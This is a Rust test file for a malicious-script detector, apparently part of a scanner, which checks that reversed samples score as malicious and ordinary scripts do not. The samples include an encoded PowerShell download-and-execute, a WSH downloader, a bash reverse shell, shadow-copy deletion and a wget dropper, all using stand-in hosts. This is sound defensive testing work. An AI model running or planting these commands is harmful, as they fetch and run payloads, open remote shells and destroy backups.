use super::*;
use crate::{context::Budget, limits::Limits};

/// Samples are stored reversed, so that this file is no sample itself.
fn turned(text: &str) -> String {
    text.chars().rev().collect()
}

fn signals(source: &str, dialect: Dialect) -> Vec<String> {
    let mut budget = Budget::unmetered(Limits::default());
    let mut cx = Context::new("s", 0, source.len() as u64, &[], &mut budget);
    read(source.as_bytes(), dialect, &mut cx);
    for signal in &cx.signals {
        assert!(crate::signals::entry(&signal.id).is_some(), "{}", signal.id);
    }
    cx.signals.into_iter().map(|s| s.id).collect()
}

fn score(source: &str, dialect: Dialect) -> u32 {
    signals(source, dialect)
        .iter()
        .filter_map(|id| crate::signals::entry(id))
        .map(|e| e.weight)
        .sum()
}

#[test]
fn a_command_in_base64_is_decoded_and_judged() {
    let inner = turned("))'a/elpmaxe.2c//:ptth'(gnirtSdaolnwoD.)tneilCbeW.teN tcejbO-weN(( XEI");
    let wide: Vec<u8> = inner.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let line = format!("powershell.exe -NoP -w hidden -eNc {}", to_base64(&wide));
    let found = signals(&line, Dialect::Batch);
    for id in [
        "script-encoded-command",
        "script-hidden-window",
        "script-fetches-and-runs",
    ] {
        assert!(found.contains(&id.to_owned()), "{id}: {found:?}");
    }
    assert!(score(&line, Dialect::Batch) >= 80);
}

fn to_base64(bytes: &[u8]) -> String {
    const LETTERS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    bytes
        .chunks(3)
        .flat_map(|chunk| {
            let group =
                chunk.iter().fold(0_u32, |g, b| g << 8 | u32::from(*b)) << (8 * (3 - chunk.len()));
            (0..4).map(move |n| {
                if n > chunk.len() {
                    '='
                } else {
                    char::from(LETTERS[(group >> (18 - 6 * n) & 63) as usize])
                }
            })
        })
        .collect()
}

#[test]
fn a_downloader_for_windows_is_malicious() {
    let source = turned(
        ";)0,)'exe.a\\%PMET%'(sgnirtStnemnorivnEdnapxE.s(nuR.s;)'llehS.tpircSW'(tcejbOXevitcA wen=s rav;)(dnes.x;)0,'a/elpmaxe//:ptth','TEG'(nepo.x;)'PTTHLMX'+'.2LMXSM'(tcejbOXevitcA wen=x rav",
    );
    assert!(
        score(&source, Dialect::Wsh) >= 80,
        "{:?}",
        signals(&source, Dialect::Wsh)
    );
}

#[test]
fn ordinary_scripts_stay_under_the_bar() {
    let shell = "#!/bin/sh\nset -e\ncd \"$(dirname \"$0\")\"\nfor f in *.txt; do grep -q x \"$f\" && echo \"$f\"; done\n";
    assert!(score(shell, Dialect::Shell) < 40);
    let batch = "@echo off\r\nnet use Z: \\\\serveur\\partage\r\nxcopy /s C:\\a Z:\\b\r\npause\r\n";
    assert!(
        score(batch, Dialect::Batch) < 40,
        "{:?}",
        signals(batch, Dialect::Batch)
    );
    let library = "!function(e,t){t=e.XMLHttpRequest?new XMLHttpRequest:new ActiveXObject('Microsoft.XMLHTTP');t.exec;return eval('('+t+')')}(this);";
    assert!(
        score(library, Dialect::Wsh) < 40,
        "{:?}",
        signals(library, Dialect::Wsh)
    );
    let admin = "Get-ADUser -Filter * | Select-Object Name, Mail | Export-Csv -Path users.csv -NoTypeInformation\n";
    assert!(score(admin, Dialect::PowerShell) < 40);
    let python =
        "import socket\n\ndef main():\n    s = socket.socket()\n    s.connect(('localhost', 80))\n";
    assert!(score(python, Dialect::General) < 40);
}

#[test]
fn a_shell_that_calls_back_is_malicious() {
    let source = turned("1&>0 344/7.001.15.891/pct/ved/ >& i- hsab");
    assert!(score(&source, Dialect::Shell) >= 80);
}

#[test]
fn ransom_preparation_is_malicious() {
    assert!(
        score(
            &turned("teiuq/ lla/ swodahs eteled nimdassv"),
            Dialect::Batch
        ) >= 80
    );
}

#[test]
fn carried_files_become_children() {
    let source = "var p='UEsDBBQAAAAIAAAAIQAAAAAAAAAAAAAAAAA=';";
    let mut budget = Budget::unmetered(Limits::default());
    let mut cx = Context::new("s.js", 0, source.len() as u64, &[], &mut budget);
    read_javascript(source.as_bytes(), &mut cx);
    assert_eq!(cx.children.len(), 1);
    assert_eq!(cx.children[0].name, "decoded.zip");
    assert!(cx.signals.iter().any(|s| s.id == "script-carries-file"));
}

proptest::proptest! {
    #[test]
    fn any_bytes_do(bytes in proptest::collection::vec(proptest::prelude::any::<u8>(), 0..1024)) {
        let mut budget = Budget::unmetered(Limits::default());
        let mut cx = Context::new("s", 0, bytes.len() as u64, &[], &mut budget);
        read(&bytes, Dialect::Wsh, &mut cx);
        for dialect in [Dialect::PowerShell, Dialect::Batch, Dialect::Shell, Dialect::General] {
            let _ = examine(&String::from_utf8_lossy(&bytes), dialect, &mut cx);
        }
    }
}

#[test]
fn a_dropper_for_servers_is_suspicious() {
    let source =
        turned("x fr- mr ;x/. ;x 777 domhc ;x O- 68x/snib/7.001.15.891//:ptth tegw ;pmt/ dc");
    assert!(
        score(&source, Dialect::Shell) >= 40,
        "{:?}",
        signals(&source, Dialect::Shell)
    );
}
